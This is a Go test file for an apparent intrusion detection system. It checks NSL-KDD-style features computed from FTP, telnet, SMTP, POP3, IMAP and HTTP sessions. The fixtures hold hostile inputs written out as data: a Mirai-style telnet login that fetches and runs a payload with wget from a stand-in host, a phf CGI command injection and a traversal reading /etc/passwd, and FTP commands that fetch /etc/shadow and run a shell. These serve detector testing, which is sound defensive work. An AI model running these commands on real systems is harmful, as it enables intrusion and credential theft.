package features

import (
	"archive/zip"
	"bufio"
	"fmt"
	"maps"
	"math"
	"math/rand/v2"
	"path"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/picket-ids/picket/capture"
	"github.com/picket-ids/picket/internal/datatest"
)

// A turn is what one side says before the other one does.
type turn struct {
	side int
	text string
}

// turns returns those of lines that begin with > for the client's or < for the
// server's.
func turns(lines ...string) (ts []turn) {
	for _, l := range lines {
		side := originator
		if l[0] == '<' {
			side = responder
		}
		ts = append(ts, turn{side, l[1:]})
	}
	return ts
}

// read feeds the turns, each cut at the places that cut chooses.
func read(port uint16, ts []turn, cut func(n int) int) *contentState {
	c := new(contentState)
	for _, t := range ts {
		for rest := []byte(t.text); len(rest) > 0; {
			n := cut(len(rest))
			c.add(rest[:n:n], t.side, port)
			rest = rest[n:]
		}
	}
	return c
}

func whole(n int) int { return n }
func one(int) int     { return 1 }

func randomly(rng *rand.Rand) func(int) int {
	return func(n int) int { return 1 + rng.IntN(min(n, 40)) }
}

// contentRow returns the values of contentGroup in a row of the dialogue c, which it must
// not change.
func contentRow(c *contentState) []float32 {
	columns, err := connectionKind.compile(names(contentGroup))
	if err != nil {
		panic(err)
	}
	var g contents
	g.bind(columns)
	g.begin(0)
	*g.conns.at(0) = *c
	values := make([]float32, len(columns))
	g.row(0, nil, nil, values)
	*c = *g.conns.at(0)
	return values
}

// describeContent names the features that are not 0.
func describeContent(c *contentState) string {
	var said []string
	for i, v := range contentRow(c) {
		if v != 0 {
			said = append(said, fmt.Sprintf("%s %v", contentGroup[i].Name, v))
		}
	}
	return strings.Join(said, ", ")
}

// typing is a line in a terminal: each octet is echoed, the newline answered.
func typing(line string) (ts []turn) {
	for _, b := range []byte(line) {
		echo := string(b)
		if b == 0x7f {
			echo = "\b \b"
		}
		ts = append(ts, turn{originator, string(b)}, turn{responder, echo})
	}
	return append(ts, turn{originator, "\r\x00"}, turn{responder, "\r\n"})
}

func join(parts ...[]turn) (ts []turn) {
	for _, p := range parts {
		ts = append(ts, p...)
	}
	return ts
}

const (
	negotiation = "<\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23"
	terminal    = ">\xff\xfb\x18\xff\xfa\x18\x00root@$#\xff\xff\xff\xf0\xff\xfc\x20"
	basicAdmin  = "Authorization: Basic YWRtaW46YWRtaW4=\r\n" // admin:admin
	basicGuest  = "authorization:  basic Z3Vlc3Q6Z3Vlc3Q=\r\n"
)

var dialogues = []struct {
	name string
	port uint16
	says []turn
	want string
}{
	{"ftp: anonymous fetches", 21, turns("<220 ready\r\n", ">USER anonymous\r\n", "<331 Please specify the password.\r\n", ">PASS a@b\r\n", "<230-Welcome\r\n 230 is the\r\n230 Login successful.\r\n",
		">CWD pub\r\n", "<250 ok\r\n", ">PASV\r\n", "<227 Entering\r\n", ">RETR a.tar\r\n", "<150 Opening\r\n226 done\r\n", ">QUIT\r\n", "<221 bye\r\n"), "hot 1, logged_in 1, is_guest_login 1"},
	{"ftp: guest refused, as in guess_passwd", 21, turns("<220 x\r\n", ">USER guest\r\n", "<331 x\r\n", ">PASS guest\r\n", "<530 Login incorrect.\r\n"), "num_failed_logins 1, is_guest_login 1"},
	{"ftp: twice refused, then in as root", 2121, turns("<220 x\r\n", ">USER root\r\n", "<331 x\r\n", ">PASS a\r\n", "<530-no\r\n530 Login incorrect.\r\n", ">USER root\r\n", "<331 x\r\n", ">PASS b\r\n", "<530 no\r\n", ">LIST\r\n", "<530 Please login\r\n",
		">user root\r\n", "<331 x\r\n", ">pass c\r\n", "<230 x\r\n"), "num_failed_logins 2, logged_in 1, is_host_login 1"},
	{"ftp: uploads .rhosts, as ftp_write", 21, turns("<220 x\r\n", ">USER ftp\r\nPASS x\r\n", "<331 x\r\n230 x\r\n", ">STOR .rhosts\r\n"), "hot 1, logged_in 1, num_file_creations 1, num_access_files 1, is_guest_login 1"},
	{"ftp: hidden directory and execution", 21, turns("<220 x\r\n", ">USER bob\r\n", "<331 x\r\n", ">PASS x\r\n", "<230 x\r\n", ">CWD /incoming/...\r\n>MKD x\r\n", ">CWD ..\r\n", ">CWD ./\r\n", ">SITE EXEC sh\r\n", ">SITE HELP\r\n", ">MKD y\r\n", ">RETR /etc/shadow\r\n"),
		"hot 3, logged_in 1, num_file_creations 1, num_access_files 1"},
	{"ftp: encrypted from AUTH TLS on", 21, turns("<220 x\r\n", ">AUTH TLS\r\n", "<234 go\r\n", ">USER anonymous\r\n", "<230 x\r\n"), ""},
	{"ftp: no TLS, so in the clear", 21, turns("<220 x\r\n", ">AUTH TLS\r\n", "<500 what\r\n", ">USER bob\r\n", "<230 x\r\n"), "logged_in 1"},
	{"ftp: another protocol on its port", 21, turns("<SSH-2.0-OpenSSH_9\r\n", ">SSH-2.0-x\r\nSTOR x\r\n"), ""},
	{"ftp: unknown port", 4000, turns("<220 x\r\n", ">USER anonymous\r\n", "<230 x\r\n"), ""},

	{"telnet: hydra against BusyBox, as in the lab", 23, turns("<\r\nlogin: ", ">root\r\x00", "<Password: ", ">pw47193\r\x00", "<\r\nLogin incorrect\r\n", "<\r\nlogin: ", ">\r\x00", "<Password: ", ">oot\r\x00", "<\r\nLogin incorrect\r\n", "<\r\nlogin: ", ">\r\x00", "<Password: ", "<\r\nLogin incorrect\r\n"),
		"hot 1, num_failed_logins 3"},
	{"telnet: Mirai's way in", 23, turns(negotiation, terminal, "<\r\nBusyBox login: ", ">root\r\n", "<root\r\nPassword: ", ">xc3511\r\n", "<\r\n\r\nBusyBox v1.20 built-in shell (ash)\r\n\r\n~ # ",
		">enable\r\nsystem\r\nshell\r\nsh\r\n", "<-sh: enable: not found\r\n~ # ", ">/bin/busybox wget http://192.0.2.1/m -O - > /tmp/m; chmod 777 /tmp/m; /tmp/m\r\n", "<~ # \x1b[6n", ">cat /etc/passwd 2>/dev/null 2>&1\r\n", "<root:x:0:0:root:/root:/bin/sh\r\n~ # "),
		"hot 4, logged_in 1, num_compromised 4, root_shell 1, num_root 9, num_file_creations 2, num_shells 2, num_access_files 1, is_host_login 1"},
	{"telnet: typed, with a correction", 2323, join(turns(negotiation, "<\xff\xfb\x01OpenBSD (x)\r\n\r\nlogin: "), typing("fak\x7fke"), turns("<Password:", ">user\r\x00", "<\r\nLast login: Sat Nov 27 from bam\r\nWarning: no tickets.\r\n$ "),
		typing("mkdirr\x7f x"), turns("<$ "), typing("echo 1 >> y"), turns("<$ "), typing("./y"), turns("<y: Permission denied\r\n$ ")), "hot 1, logged_in 1, num_file_creations 2"},
	{"telnet: guest, colours in the prompt", 23, turns("<Username: ", ">guest\r\n", "<\x1b]0;root@x: ~\x07\x1b[01;32mguest@box\x1b[0m:~$ "), "hot 1, logged_in 1, is_guest_login 1"},
	{"telnet: su to root", 23, turns("<login: ", ">bob\r\n", "<Password: ", ">x\r\n", "<$ ", ">su -\r\n", "<Password: ", ">wrong\r\n", "<su: incorrect password\r\n$ ", ">su\r\n", "<Password: ", ">root\r\n", "<root@box:~# ", ">id\r\n", "<uid=0(root) gid=0(root)\r\nroot@box:~# "),
		"num_failed_logins 1, logged_in 1, num_compromised 3, root_shell 1, su_attempted 2, num_root 4"},
	{"telnet: su to another", 23, turns("<login: ", ">bob\r\n", "<$ ", ">su - news\r\n", "<$ ", ">sush\r\n", "<$ "), "logged_in 1"},
	{"telnet: a shell by exec", 23, turns("<login: ", ">bob\r\n", "<$ ", ">perl -e 'exec \"/bin/sh\"'\r\n", "<# ", ">exec csh\r\n", "<# "), "logged_in 1, root_shell 1, num_root 1, num_shells 2"},
	{"telnet: Cisco", 23, turns("<\xff\xfb\x01\r\nUser Access Verification\r\n\r\nPassword: ", ">a\r\n", "<\r\nPassword: ", ">b\r\n", "<\r\nPassword: ", ">c\r\n", "<\r\n% Bad passwords\r\n"), "num_failed_logins 3"},
	{"telnet: Cisco with names", 23, turns("<\r\nUsername: ", ">cisco\r\n", "<cisco\r\nPassword: ", ">cisco\r\n", "<\r\n% Login invalid\r\n\r\nUsername: ", ">a\r\n", "<Password: ", ">b\r\n", "<\r\nrouter>"), "num_failed_logins 1, logged_in 1"},
	{"telnet: other refusals", 23, turns("<login: ", ">a\r\n", "<Password: ", ">a\r\n", "<Authentication failed.\r\nlogin: ", ">bad\r\n", "<bad\r\nPassword: ", ">b\r\n", "<Access denied\r\nlogin: ", ">c\r\n", "<Password: ", ">c\r\n", "<login: ", ">d\r\n", "<password for d: ", ">d\r\n", "<Bad Password!\r\n"), "num_failed_logins 4"},
	{"telnet: no refusal in the greeting", 23, turns("<Unauthorized access is denied. No invalid users.\r\nlogin: ", ">a\r\n", "<Password: ", ">a\r\n", "<Last failed login: Mon\r\nThere were 3 failed login attempts.\r\n$ ", ">x\r\n", "<x: failed, invalid\r\nfile not found\r\n$ "), "logged_in 1, num_compromised 1"},
	{"telnet: what is shown unasked is no prompt", 23, turns(negotiation, "<#######\r\n# >", "<> no\r\n", ">\xff\xfb\x01"), ""},
	{"telnet: something else on its port", 23, turns("<ISUP ANM  Answer   CIC: 31\r\n12:02 C4CM -->", ">sh\r\n", "<root not found\r\n# "), ""},
	{"rlogin: in at once", 513, turns(">\x00", ">bob\x00root\x00vt100/9600\x00", "<\x00", "<Last login: x\r\n# ", ">\xff\xffss\x00\x18\x00\x50\x00\x00\x00\x00", ">cat ~/.rhosts\r", "<+ +\r\n# "), "hot 1, logged_in 1, root_shell 1, num_root 1, num_access_files 1, is_host_login 1"},
	{"rlogin: refused", 513, turns(">\x00bob\x00bob\x00vt100/9600\x00", "<\x00Password: ", ">x\r", "<\r\nLogin incorrect\r\nlogin: "), "num_failed_logins 1"},

	{"smtp: a mail", 25, turns("<220 mx ESMTP\r\n", ">EHLO me\r\n", "<250-mx\r\n250 AUTH PLAIN\r\n", ">MAIL FROM:<a>\r\n", "<250 ok\r\n", ">DATA\r\n", "<354 go\r\n", ">root not found /etc/passwd\r\n.\r\n", "<250 ok\r\n"), "logged_in 1"},
	{"smtp: greeted, no more", 587, turns("<220-mx\r\n220 mx\r\n"), "logged_in 1"},
	{"smtp: not welcome", 25, turns("<554 no\r\n", ">QUIT\r\n"), ""},
	{"smtp: passwords refused", 587, turns("<220 mx\r\n", ">EHLO x\r\n", "<250 AUTH LOGIN\r\n", ">AUTH LOGIN\r\n", "<334 VXNlcm5hbWU6\r\n", ">Ym9i\r\n", "<334 UGFz\r\n", ">eA==\r\n", "<535 5.7.8 no\r\n", ">AUTH PLAIN AGJvYgB4\r\n", "<535-5.7.8 no\r\n535 5.7.8 no\r\n"), "num_failed_logins 2"},
	{"smtp: password accepted", 587, turns("<220 mx\r\n", ">AUTH PLAIN AGJvYgB4\r\n", "<535 no\r\n", ">AUTH PLAIN AGJvYgB5\r\n", "<235 ok\r\n"), "num_failed_logins 1, logged_in 1"},
	{"smtp: encrypted from STARTTLS on", 25, turns("<220 mx\r\n", ">STARTTLS\r\n", "<220 go\r\n", ">AUTH PLAIN x\r\n", "<535 no\r\n"), "logged_in 1"},
	{"pop3: in", 110, turns("<+OK hello\r\n", ">USER bob\r\n", "<+OK password required.\r\n", ">PASS x\r\n", "<+OK maildrop ready\r\n", ">STAT\r\n", "<+OK 0 0\r\n", ">DELE 9\r\n", "<-ERR no\r\n"), "logged_in 1"},
	{"pop3: guessed", 110, turns("<+OK hello\r\n", ">USER root\r\n", "<+OK\r\n", ">PASS x\r\n", "<-ERR no\r\n", ">USER guest@x\r\n", "<-ERR no such user\r\n", ">APOP root c4c9\r\n", "<+OK\r\n"), "num_failed_logins 2, logged_in 1, is_host_login 1, is_guest_login 1"},
	{"pop3: encrypted", 110, turns("<+OK\r\n", ">STLS\r\n", "<+OK go\r\n", ">USER guest\r\n"), ""},
	{"imap: guessed", 143, turns("<* OK ready\r\n", ">a1 LOGIN \"guest@x\" x\r\n", "<a1 NO failed\r\n", ">a2 LOGIN root x\r\n", "<* CAPABILITY X\r\na2 OK in\r\n", ">a3 SELECT x\r\n", "<a3 NO\r\n"), "num_failed_logins 1, logged_in 1, is_host_login 1, is_guest_login 1"},
	{"imap: authenticate", 143, turns("<* OK ready\r\n", ">a1 AUTHENTICATE PLAIN\r\n", "<+ \r\n", ">AGJvYgB4\r\n", "<a1 NO failed\r\n"), "num_failed_logins 1"},
	{"imap: known already", 143, turns("<* PREAUTH hello\r\n"), "logged_in 1"},
	{"imap: encrypted", 143, turns("<* OK\r\n", ">a STARTTLS\r\n", "<a OK go\r\n", ">b LOGIN root x\r\n", "<b NO\r\n"), ""},

	{"http: a page", 80, turns(">GET / HTTP/1.1\r\nHost: x\r\n\r\n", "<HTTP/1.1 404 Not Found\r\n\r\nroot not found"), "logged_in 1"},
	{"http: unanswered", 8080, turns(">POST /x HTTP/1.0\r\n\r\na=b"), "logged_in 1"},
	{"http: asked to log in", 80, turns(">GET / HTTP/1.1\r\n\r\n", "<HTTP/1.1 401 Unauthorized\r\n\r\n"), ""},
	{"http: refused", 80, turns(">GET / HTTP/1.1\r\n"+basicAdmin+"\r\n", "<HTTP/1.1 401 Unauthorized\r\n\r\n"), "num_failed_logins 1"},
	{"http: guessed on one connection", 8080, turns(">POST /m HTTP/1.1\r\n"+basicAdmin+"\r\nno newline", "<HTTP/1.1 401 Unauthorized\r\n\r\nno newline", ">GET /m HTTP/1.1\r\nProxy-Authorization: Digest username=\"x\"\r\n\r\n", "<HTTP/1.1 407 x\r\n\r\n",
		">GET /m HTTP/1.1\r\n"+basicAdmin+"\r\n", "<HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 302 Found\r\n\r\n"), "num_failed_logins 2, logged_in 1, is_host_login 1"},
	{"http: guest", 80, turns(">GET / HTTP/1.1\r\n"+basicGuest+"\r\n", "<HTTP/1.1 200 OK\r\n\r\n"), "logged_in 1, is_guest_login 1"},
	{"http: bearers are no logins", 80, turns(">GET / HTTP/1.1\r\nAuthorization: Bearer abc\r\n\r\n", "<HTTP/1.1 401 x\r\n\r\n"), ""},
	{"http: phf", 80, turns(">GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n\r\n", "<HTTP/1.0 200 OK\r\n\r\nroot:x:0:0\n"), "hot 2, logged_in 1, num_access_files 1"},
	{"http: back", 80, turns(">GET "+strings.Repeat("/", 3000)+" HTTP/1.0\r\n\r\n", "<HTTP/1.0 200 OK\r\n\r\n"), "hot 1, logged_in 1"},
	{"http: traversal and a shell", 80, turns(">GET /%2e%2e%2f..%2fetc%2fpasswd?passwd=/passwd&x=;/bin/sh HTTP/1.1\r\n\r\n"), "hot 2, logged_in 1, num_shells 1, num_access_files 1"},
	{"http: harmless", 80, turns(">GET /bin/passwd/shadow HTTP/1.1\r\nAccept: */*\r\nVia: HTTP/1.1\r\n\r\n", "<HTTP/1.1 200 OK\r\n\r\n"), "logged_in 1"},
	{"http: HTTP/2", 80, turns(">PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "<\x00\x00\x12\x04"), ""},
	{"http: TLS on its port", 8080, turns(">\x16\x03\x01\x02\x00\x01", "<\x16\x03\x03"), ""},
}

func TestContent(t *testing.T) {
	rng := newRand(20)
	for _, tc := range dialogues {
		t.Run(tc.name, func(t *testing.T) {
			all := read(tc.port, tc.says, whole)
			if got := describeContent(all); got != tc.want {
				t.Fatalf("%s\nwant %s", got, tc.want)
			}
			for i := range 50 {
				cut := randomly(rng)
				if i == 0 {
					cut = one
				}
				if c := read(tc.port, tc.says, cut); *c != *all {
					t.Fatalf("cut otherwise: %s\nwant %s", describeContent(c), tc.want)
				}
			}
		})
	}
}

// TestContentLimit: octets behind the first 4 KiB of a side are not read.
func TestContentLimit(t *testing.T) {
	const user, got = "USER guest\r\n", "hot 3, logged_in 1, num_file_creations 3, is_guest_login 1"
	three := "STOR a\r\nSTOR b\r\nSTOR c\r\n"
	fill := contentLimit - len(user) - len(three)
	for extra, want := range []string{got, strings.ReplaceAll(got, "3", "2")} {
		// The newline is cut off too; it is the blank that ends the command.
		filler := strings.Repeat("x", fill+len("C c\r\n")*extra+extra-2) + "\r\n"
		for _, cut := range []func(int) int{whole, one, randomly(newRand(1))} {
			c := read(21, turns("<220 x\r\n", ">"+user, "<230 x\r\n", ">"+filler+three+three), cut)
			if s := describeContent(c); s != want {
				t.Errorf("filler of %d: %s, want %s", len(filler), s, want)
			}
			if n := c.sides[originator].octets; n != contentLimit {
				t.Errorf("%d octets read", n)
			}
		}
	}
}

// TestContentState: it is small, and the garbage collector need not look into it.
func TestContentState(t *testing.T) {
	typ := reflect.TypeFor[contentState]()
	if typ.Size() > 128 {
		t.Errorf("%d octets", typ.Size())
	}
	var walk func(reflect.Type)
	walk = func(typ reflect.Type) {
		switch k := typ.Kind(); k {
		case reflect.Struct:
			for i := range typ.NumField() {
				walk(typ.Field(i).Type)
			}
		case reflect.Array:
			walk(typ.Elem())
		case reflect.Uint8, reflect.Uint16:
		default:
			t.Errorf("a %s", k)
		}
	}
	walk(typ)
}

func TestContentNames(t *testing.T) {
	want := "hot num_failed_logins logged_in num_compromised root_shell su_attempted num_root num_file_creations num_shells num_access_files num_outbound_cmds is_host_login is_guest_login"
	if got := strings.Join(names(contentGroup), " "); got != want {
		t.Errorf("%s", got)
	}
}

func TestContentAllocations(t *testing.T) {
	var c contentState
	var sum float64
	for _, d := range dialogues {
		var says [][]byte
		for _, t := range d.says {
			says = append(says, []byte(t.text))
		}
		if n := testing.AllocsPerRun(10, func() {
			c = contentState{}
			for i, b := range says {
				c.add(b, d.says[i].side, d.port)
			}
			for i := range contentGroup {
				sum += contentGroup[i].value.(func(*contentState) float64)(&c)
			}
		}); n != 0 {
			t.Errorf("%s: %v allocations", d.name, n)
		}
	}
}

// FuzzContent takes turns, each an octet of its side and length before it.
func FuzzContent(f *testing.F) {
	ports := []uint16{21, 23, 25, 80, 110, 143, 513, 4000}
	for _, d := range dialogues {
		var in []byte
		for _, t := range d.says {
			for rest := t.text; rest != ""; {
				n := min(len(rest), 127)
				in = append(append(in, byte(t.side<<7|n)), rest[:n]...)
				rest = rest[n:]
			}
		}
		for i, p := range ports {
			if p == d.port {
				f.Add(in, uint8(i), uint64(1))
			}
		}
	}
	f.Fuzz(func(t *testing.T, in []byte, port uint8, seed uint64) {
		var ts []turn
		for len(in) > 1 {
			n := min(1+int(in[0]&0x7f), len(in))
			ts = append(ts, turn{int(in[0] >> 7), string(in[1:n])})
			in = in[n:]
		}
		p := ports[int(port)%len(ports)]
		c := read(p, ts, whole)
		if again := read(p, ts, randomly(newRand(seed))); *again != *c {
			t.Fatalf("cut otherwise:\n%+v\n%+v", c, again)
		}
		before := *c
		for i, v := range contentRow(c) {
			f, most := contentGroup[i], float32(2*contentLimit)
			switch f.Unit {
			case "0/1":
				most = 1
			case "0/1/2":
				most = 2
			}
			if v < 0 || v > most {
				t.Fatalf("%s %v", f.Name, v)
			}
		}
		if *c != before {
			t.Fatal("looking at the features changed them")
		}
		for i := range c.sides {
			if s := &c.sides[i]; s.octets > contentLimit || s.n > wordMax {
				t.Fatalf("%+v", s)
			}
		}
	})
}

func BenchmarkContent(b *testing.B) {
	for _, bc := range []struct {
		name string
		port uint16
		side int
		text string
	}{
		{"http-request", 80, originator, "GET /index.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n\r\n"},
		{"http-answer", 80, responder, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body><p>It works, and more of it.</p></body></html>\r\n"},
		{"telnet-output", 23, responder, "login: -rw-r--r--  1 root root  4096 Jan  1 00:00 passwd\r\n"},
		{"ftp-reply", 21, responder, "220 ready\r\n226 Transfer complete.\r\n"},
		{"other-port", 4000, responder, "anything at all, it is not read"},
	} {
		payload := []byte(strings.Repeat(bc.text, contentLimit/len(bc.text)+1)[:contentLimit])
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(contentLimit)
			for b.Loop() {
				var c contentState
				for rest := payload; len(rest) > 0; rest = rest[min(len(rest), 1448):] {
					c.add(rest[:min(len(rest), 1448)], bc.side, bc.port)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/(contentLimit/1024), "ns/KB")
		})
	}
}

func TestNewPayload(t *testing.T) {
	for _, tc := range []struct {
		captured string
		wire, n  int
		want     string
	}{
		{"abcdef", 6, 6, "abcdef"},
		{"abcdef", 6, 2, "ef"},
		{"abcdef", 6, 0, ""},
		{"abc", 6, 6, "abc"}, // the capture cut it off
		{"abc", 6, 4, "c"},
		{"abc", 6, 2, ""},
		{"", 6, 6, ""},
		{"abcdef", 6, 9, "abcdef"},
	} {
		p := capture.Packet{Payload: []byte(tc.captured), PayloadLen: tc.wire}
		if got := newPayload(&p, tc.n); string(got) != tc.want {
			t.Errorf("%q of %d, %d new: %q, want %q", tc.captured, tc.wire, tc.n, got, tc.want)
		}
	}
}

// TestContentRows counts the rows of NSL-KDD that content.go rests on.
func TestContentRows(t *testing.T) {
	type row struct {
		service, flag, label                                                                       string
		src, dst, hot, failed, in, comp, shell, su, root, files, shells, access, cmds, host, guest int
	}
	is := func(service string) func(*row) bool { return func(r *row) bool { return r.service == service } }
	and := func(fs ...func(*row) bool) func(*row) bool {
		return func(r *row) bool {
			return !slices.ContainsFunc(fs, func(f func(*row) bool) bool { return !f(r) })
		}
	}
	loggedIn := func(r *row) bool { return r.in == 1 }
	hears := func(r *row) bool { return r.dst > 0 }
	asks := func(r *row) bool { return r.src > 0 }
	label := func(l string) func(*row) bool { return func(r *row) bool { return r.label == l } }
	closed := and(is("ftp"), loggedIn, func(r *row) bool { return r.flag == "SF" })
	transfers := func(r *row) bool { return math.Abs(float64(r.src-52)/46-float64(r.hot)) < 1 }
	named := func(r *row) bool { return r.host == 1 || r.guest == 1 }
	rooted := func(shell int) func(*row) bool {
		return and(is("telnet"), func(r *row) bool { return r.root > 0 && r.shell == shell })
	}
	atLeastRoot := func(r *row) bool { return r.comp >= r.root }
	creates := and(is("ftp"), func(r *row) bool { return r.files > 0 })
	su := func(n int) func(*row) bool { return func(r *row) bool { return r.su == n } }
	rootShell := func(r *row) bool { return r.shell == 1 }
	isOther := func(r *row) bool { return !slices.Contains([]string{"normal", "warezmaster", "warezclient"}, r.label) }
	counts := []*struct {
		what      string
		of, which func(*row) bool
		n, k      int // rows wanted
		gotN      int
		gotK      int
	}{
		{what: "FTP: hot is the files, warezmaster", of: and(closed, label("warezmaster")), which: transfers, n: 498, k: 497},
		{what: "normal", of: and(closed, label("normal")), which: transfers, n: 905, k: 679},
		{what: "warezclient", of: and(closed, label("warezclient")), which: transfers, n: 305, k: 8},
		{what: "others", of: and(closed, isOther), which: transfers, n: 26, k: 26},
		{what: "as many creations as hot", of: creates, which: func(r *row) bool { return r.files == r.hot }, n: 19, k: 11},
		{what: "fewer", of: creates, which: func(r *row) bool { return r.files < r.hot }, n: 19, k: 4},
		{what: "access files", of: and(is("ftp"), func(r *row) bool { return r.access > 0 }), which: and(creates, label("ftp_write")), n: 3, k: 3},
		{what: "guessed FTP passwords", of: and(is("ftp"), label("guess_passwd")), which: func(r *row) bool { return r.failed == 1 && r.in == 0 && r.guest == 1 }, n: 96, k: 96},
		{what: "host logins succeed", of: func(r *row) bool { return r.host == 1 }, which: loggedIn, n: 12, k: 12},
		{what: "none of these in FTP", of: is("ftp"), which: func(r *row) bool { return r.comp+r.root+r.shells+r.shell > 0 }, n: 2446, k: 0},
		{what: "HTTP requests", of: and(is("http"), asks), which: loggedIn, n: 43503, k: 43494},
		{what: "no HTTP request", of: and(is("http"), func(r *row) bool { return r.src == 0 }), which: loggedIn, n: 4688, k: 76},
		{what: "no HTTP login", of: is("http"), which: func(r *row) bool { return r.failed+r.host+r.guest > 0 }, n: 48191, k: 0},
		{what: "phf", of: and(label("phf"), asks), which: func(r *row) bool { return r.src == 51 && r.hot == 2 && r.access == 1 }, n: 5, k: 5},
		{what: "back", of: label("back"), which: func(r *row) bool { return r.hot > 0 }, n: 1315, k: 1300},
		{what: "SMTP greeted", of: and(is("smtp"), hears), which: loggedIn, n: 7851, k: 7840},
		{what: "no more", of: and(is("smtp"), hears, func(r *row) bool { return r.src == 0 }), which: loggedIn, n: 94, k: 94},
		{what: "POP3 greeted", of: and(is("pop_3"), hears), which: loggedIn, n: 1076, k: 1075},
		{what: "guessed POP3 passwords", of: and(is("pop_3"), label("guess_passwd")), which: and(loggedIn, func(r *row) bool { return r.failed == 0 }), n: 750, k: 750},
		{what: "IMAP", of: and(is("imap4"), hears), which: loggedIn, n: 142, k: 5},
		{what: "Telnet names are hot", of: and(is("telnet"), named), which: func(r *row) bool { return r.hot > 0 }, n: 6, k: 6},
		{what: "su 2", of: su(2), which: rootShell, n: 61, k: 61},
		{what: "su 1", of: su(1), which: rootShell, n: 23, k: 10},
		{what: "su refused", of: and(su(1), func(r *row) bool { return r.shell == 0 }), which: func(r *row) bool { return r.failed > 0 }, n: 13, k: 5},
		{what: "roots without a shell", of: rooted(0), which: atLeastRoot, n: 73, k: 67},
		{what: "roots with one", of: rooted(1), which: atLeastRoot, n: 110, k: 21},
		{what: "compromised without root", of: and(is("telnet"), func(r *row) bool { return r.comp > 0 }), which: func(r *row) bool { return r.root == 0 }, n: 394, k: 225},
		{what: "outbound commands", of: func(*row) bool { return true }, which: func(r *row) bool { return r.cmds > 0 }, n: 148517, k: 0},
		{what: "FTP data inherits", of: is("ftp_data"), which: loggedIn, n: 7711, k: 3988},
		{what: "FTP data lists", of: is("ftp_data"), which: func(r *row) bool { return r.root > 0 }, n: 7711, k: 470},
		{what: "HTTP compromised", of: and(is("http"), func(r *row) bool { return r.comp > 0 }), which: label("back"), n: 1235, k: 1198},
		{what: "HTTP root shells", of: is("http"), which: rootShell, n: 48191, k: 70},
	}
	z, err := zip.OpenReader(datatest.Data(t, "nsl-kdd", "NSL-KDD.zip"))
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, name := range []string{"KDDTrain+.txt", "KDDTest+.txt"} {
		f, err := z.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		lines := bufio.NewScanner(f)
		for lines.Scan() {
			col := strings.Split(lines.Text(), ",")
			r := row{service: col[2], flag: col[3], label: col[41]}
			for i, v := range []*int{&r.src, &r.dst, nil, nil, nil, &r.hot, &r.failed, &r.in, &r.comp, &r.shell, &r.su, &r.root, &r.files, &r.shells, &r.access, &r.cmds, &r.host, &r.guest} {
				if v != nil {
					*v, _ = strconv.Atoi(col[4+i])
				}
			}
			for _, c := range counts {
				if c.of(&r) {
					c.gotN++
					if c.which(&r) {
						c.gotK++
					}
				}
			}
		}
		f.Close()
	}
	for _, c := range counts {
		if c.gotN != c.n || c.gotK != c.k {
			t.Errorf("%s: %d of %d, want %d of %d", c.what, c.gotK, c.gotN, c.k, c.n)
		}
	}
}

// TestContentCaptures compares connections with what tshark 4.0.17 says of theirs,
// counted by tcp.stream of tshark -Y ... -T fields -e tcp.stream -e ...:
//
//	telnet.data contains "incorrect": 25 streams of the lab with 3, 3 with 2
//	ftp.response.code (530, 230), ftp.request.command (USER, RETR) and arg
//	pop.response.indicator behind pop.request.command == PASS
//	smtp.response.code == 220
//	http.response.code (401) behind http.authorization; http.request.method
func TestContentCaptures(t *testing.T) {
	for _, tc := range contentCaptures {
		t.Run(fmt.Sprint(path.Base(tc.file), " ", tc.port), func(t *testing.T) {
			got := map[string]int{}
			columns := names(contentGroup)
			tr := newTracker(t, Config{Columns: columns}, func(r *Row) {
				if !r.Ended || r.DstPort != tc.port {
					return
				}
				var said []string
				for i, v := range r.Values {
					if v != 0 {
						said = append(said, fmt.Sprintf("%s %v", columns[i], v))
					}
				}
				if said != nil {
					got[strings.Join(said, ", ")]++
				}
			})
			var d capture.Decoder
			var p capture.Packet
			for _, f := range readFrames(t, datatest.Data(t, "captures", tc.file)) {
				if d.Decode(&f, &p).HasPacket() {
					tr.Add(&p)
				}
			}
			tr.Flush()
			if !maps.Equal(got, tc.want) {
				t.Errorf("%v\nwant %v", got, tc.want)
			}
		})
	}
}

var contentCaptures = []struct {
	file string
	port uint16
	want map[string]int
}{
	{"lab/A-lan.pcap", 23, map[string]int{"hot 1, num_failed_logins 3": 25, "hot 1, num_failed_logins 2": 3}},
	{"train/brute_ftp/HatBoy__ftp_bru.pcap", 21, map[string]int{"num_failed_logins 1": 655, "num_failed_logins 1, is_guest_login 1": 1}},
	{"test/brute_ftp/zeek__bruteforce.pcap", 21, map[string]int{"num_failed_logins 1": 30}},
	{"test/benign_app/ntop__ftp.pcap", 21, map[string]int{"hot 1, logged_in 1, is_guest_login 1": 1}},
	{"test/benign_sip/irontec__aaa.pcap", 21, map[string]int{"hot 1, logged_in 1, is_guest_login 1": 1}},
	{"test/scan_ftp_bounce/markofu__FTP_BOUNCE_SCAN.pcap", 21, map[string]int{"logged_in 1, is_guest_login 1": 1}},
	{"train/benign_app/ntop__telnet.pcap", 23, map[string]int{"logged_in 1": 1}},
	{"train/benign_sip/goffinet__sip.pcapng", 23, map[string]int{}}, // signalling traces
	{"train/benign_sip/goffinet__sip.pcapng", 110, map[string]int{"logged_in 1": 3}},
	{"test/brute_http/HatBoy__tomcat_bru.pcap", 8080, map[string]int{"num_failed_logins 1": 88}},
	// The form answers 200 to a wrong password.
	{"train/brute_http/axr00t__hydra_brute_force_get_success_106_attempts.pcap", 80, map[string]int{"logged_in 1": 213}},
	{"test/malware_c2/scottymace__cnc4.pcap", 25, map[string]int{"logged_in 1": 1}},
	{"test/scan_tcp_syn/tahsin5__nmap.pcap", 25, map[string]int{"logged_in 1": 1}},
}
